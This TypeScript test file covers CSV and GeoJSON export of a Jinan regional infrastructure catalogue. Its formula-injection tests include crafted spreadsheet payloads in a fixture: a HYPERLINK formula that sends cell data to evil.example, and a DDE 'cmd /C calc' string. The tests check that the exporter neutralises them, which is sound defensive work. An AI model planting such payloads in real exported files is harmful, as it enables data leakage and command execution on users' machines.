import { beforeAll, describe, expect, it } from 'vitest';
import { realCatalog } from '../../scripts/test/realCatalog.ts';
import { itemPropertiesSchema } from '../catalog/build/schema.ts';
import type { Catalog, FullItem } from '../catalog/types.ts';
import { flattenDistricts, type ItemGeometry, toCsv, toGeoJson } from './export.ts';
import { DISTRICTS, fixture, REVIEWED, records, touchesZhangqiu, ZHANGQIU } from './exportTestData.ts';

// The real catalogue comes through the build's own pipeline, in memory: the same data that
// `vite build` writes to src/generated/, without depending on a build having run first.
let catalog: Catalog<FullItem>;
let geometry: ItemGeometry;

beforeAll(() => {
  const out = realCatalog();
  catalog = out.catalog;
  geometry = out.map as ItemGeometry;
});

describe('toCsv: formula injection', () => {
  const crafted = fixture({
    name_zh: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    name_en: '@SUM(1+1)*cmd|" /C calc"!A0',
    summary_en: '+1+1',
    summary_zh: '-2+3',
    report_section: '\tTAB',
    report_quote: 'never exported',
    sources: ['\rCR first'],
  });

  it('prefixes a single quote to every text field starting with = + - @ TAB or CR', () => {
    const [zh] = records(toCsv([crafted], DISTRICTS, 'zh', REVIEWED));
    const [en] = records(toCsv([crafted], DISTRICTS, 'en', REVIEWED));
    expect(en?.['Name (Chinese)']).toBe(`'${crafted.name_zh}`);
    expect(en?.['Name (English)']).toBe(`'${crafted.name_en}`);
    expect(en?.Summary).toBe("'+1+1");
    expect(zh?.简介).toBe("'-2+3");
    expect(en?.['Report section']).toBe("'\tTAB");
    expect(en?.Sources).toBe("'\rCR first");
  });

  it('leaves every cell of the real catalogue free of a leading formula character', () => {
    for (const lang of ['zh', 'en'] as const)
      for (const row of records(toCsv(catalog.items, catalog.districts, lang, catalog.reviewed)))
        for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes numeric columns as plain numbers, never prefixed', () => {
    const csv = toCsv([fixture({ length_km: -3, accuracy_m: 50 })], DISTRICTS, 'en', REVIEWED);
    const [row] = records(csv);
    expect(row?.['Length (km)']).toBe('-3');
    expect(row?.['Accuracy (m)']).toBe('50');
  });
});

describe('toCsv: the real catalogue, filtered to 章丘区', () => {
  const rowsFor = (lang: 'zh' | 'en') =>
    records(toCsv(catalog.items.filter(touchesZhangqiu), catalog.districts, lang, catalog.reviewed));

  it('has one row per item touching 章丘区, in order, with 济莱高铁 and 城子崖 and not 济南西站', () => {
    const selected = catalog.items.filter(touchesZhangqiu);
    const rows = rowsFor('zh');
    expect(rows.map((r) => r.编号)).toEqual(selected.map((i) => i.id));
    const ids = rows.map((r) => r.编号);
    expect(ids).toContain('hsr-jinan-laiwu');
    expect(ids).toContain('longshan-culture-chengziya');
    expect(ids).not.toContain('station-jinan-west');
    expect(catalog.items.some((i) => i.id === 'station-jinan-west')).toBe(true);
  });

  it('writes the 济莱高铁 row in full: names, figures and its km in 章丘区', () => {
    const item = catalog.items.find((i) => i.id === 'hsr-jinan-laiwu');
    const share = item?.districts?.inside.find((s) => s.key === ZHANGQIU);
    if (!item || !share) throw new Error('hsr-jinan-laiwu no longer crosses 章丘区');
    const zh = rowsFor('zh').find((r) => r.编号 === item.id);
    expect(zh?.中文名称).toBe('济莱高铁');
    expect([zh?.类别, zh?.类别代码, zh?.交通方式, zh?.交通方式代码]).toEqual(['交通枢纽', 'transport', '铁路', 'rail']);
    expect(zh?.数据截至).toBe(catalog.reviewed);
    expect(zh?.英文名称).toBe(item.name_en);
    expect(zh?.所在区县?.split('; ')).toContain(`章丘区 ${share.amount} km`);
    expect(zh?.['长度（公里）']).toBe(String(item.length_km));
    expect(zh?.来源?.split(' | ')).toEqual(item.sources);
    const en = rowsFor('en').find((r) => r.ID === item.id);
    expect(en?.Districts?.split('; ')).toContain(`Zhangqiu District ${share.amount} km`);
    expect(en?.Summary).toBe(item.summary_en);
  });

  it('names 章丘区 alone for the 城子崖 site, a point', () => {
    const zh = rowsFor('zh').find((r) => r.编号 === 'longshan-culture-chengziya');
    expect(zh?.中文名称).toContain('城子崖');
    expect(zh?.所在区县).toBe('章丘区');
    expect(zh?.济南市域外).toBe('');
  });
});

describe('toGeoJson', () => {
  const sourceGeometry = (id: string) =>
    geometry.features.find((f) => f.properties.id === id && f.properties.label !== true)?.geometry ?? null;

  it('is a FeatureCollection with one feature per item, each with its source geometry or null', () => {
    const items = catalog.items.filter(touchesZhangqiu);
    const parsed = JSON.parse(toGeoJson(items, geometry, catalog.districts, catalog.reviewed));
    expect(parsed.type).toBe('FeatureCollection');
    expect(parsed.features).toHaveLength(items.length);
    items.forEach((item, n) => {
      const f = parsed.features[n];
      expect(f.type).toBe('Feature');
      expect(f.properties.id).toBe(item.id);
      expect(f.geometry).toEqual(sourceGeometry(item.id));
      expect(f.geometry).not.toBeNull();
    });
  });

  it('keeps the whole catalogue, items without geometry included with a null geometry', () => {
    const parsed = JSON.parse(toGeoJson(catalog.items, geometry, catalog.districts, catalog.reviewed));
    expect(parsed.features).toHaveLength(catalog.items.length);
    const withoutGeometry = catalog.items.filter((i) => i.geometry_kind === null);
    expect(withoutGeometry.length).toBeGreaterThan(0);
    for (const [n, item] of catalog.items.entries()) {
      expect(parsed.features[n].geometry).toEqual(sourceGeometry(item.id));
      // A label point is never taken for the item's geometry.
      if (item.geometry_kind === 'area') expect(parsed.features[n].geometry.type).toMatch(/Polygon$/);
      if (item.geometry_kind === null) expect(parsed.features[n].geometry).toBeNull();
    }
  });

  it('carries the schema fields and the districts flattened, and none of the build-derived fields', () => {
    const item = catalog.items.find((i) => i.id === 'hsr-jinan-laiwu');
    if (!item) throw new Error('no hsr-jinan-laiwu');
    const [f] = JSON.parse(toGeoJson([item], geometry, catalog.districts, catalog.reviewed)).features;
    expect(Object.keys(f.properties).sort()).toEqual(
      [
        ...Object.keys(itemPropertiesSchema.shape),
        'districts',
        'districts_en',
        'recheck',
        'status_at_asof',
        'behind_schedule_at_asof',
      ].sort(),
    );
    expect(f.properties.districts).toBe(flattenDistricts(item.districts, catalog.districts, 'zh'));
    expect(f.properties.districts).toContain('章丘区');
    expect(f.properties.districts_en).toContain('Zhangqiu District');
    expect(f.properties.sources).toEqual(item.sources);
  });

  it("carries the review date on the collection and each item's re-check mark", () => {
    const parsed = JSON.parse(
      toGeoJson(
        [fixture({ id: 'old', recheck: true }), fixture({ id: 'fresh', recheck: false })],
        { features: [] },
        DISTRICTS,
        REVIEWED,
      ),
    );
    expect(parsed.data_as_of).toBe('2026-12-06');
    expect(parsed.features.map((f: { properties: { recheck: boolean } }) => f.properties.recheck)).toEqual([
      true,
      false,
    ]);
    // The real catalogue: the file says the review date, not the newest date of one item.
    const real = JSON.parse(toGeoJson(catalog.items, geometry, catalog.districts, catalog.reviewed));
    expect(real.data_as_of).toBe(catalog.reviewed);
    const marked = real.features.filter((f: { properties: { recheck: boolean } }) => f.properties.recheck);
    expect(marked.length).toBe(catalog.items.filter((i) => i.recheck).length);
    expect(marked.length).toBeGreaterThan(0);
  });

  it('carries the month shown and each item at that month, keeping its current status', () => {
    const laiwu = catalog.items.find((i) => i.id === 'hsr-jinan-laiwu');
    if (!laiwu) throw new Error('no hsr-jinan-laiwu');
    const at = (asof: string | null) =>
      JSON.parse(toGeoJson([laiwu], geometry, catalog.districts, catalog.reviewed, asof));
    // Works started in 2019-09; promised for 2020, the line opened on 2022-12-30: behind schedule in 2022-06.
    const june = at('2022-06');
    expect(june.asof).toBe('2022-06');
    expect(june.data_as_of).toBe(catalog.reviewed);
    expect(june.features[0].properties).toMatchObject({
      status: 'in_operation',
      status_as_of: laiwu.status_as_of,
      status_at_asof: 'under_construction',
      behind_schedule_at_asof: true,
    });
    expect(at('2022-12').features[0].properties).toMatchObject({
      status_at_asof: 'in_operation',
      behind_schedule_at_asof: false,
    });
    // Without a month the view shows today: the review's month.
    const today = at(null);
    expect(today.asof).toBe(catalog.reviewed.slice(0, 7));
    expect(today.features[0].properties.status_at_asof).toBe('in_operation');
  });

  it('is pretty-printed with two spaces', () => {
    const text = toGeoJson([fixture()], { features: [] }, DISTRICTS, REVIEWED);
    expect(
      text.startsWith(
        '{\n  "type": "FeatureCollection",\n  "data_as_of": "2026-12-06",\n  "asof": "2026-12",\n  "features": [\n    {',
      ),
    ).toBe(true);
  });
});
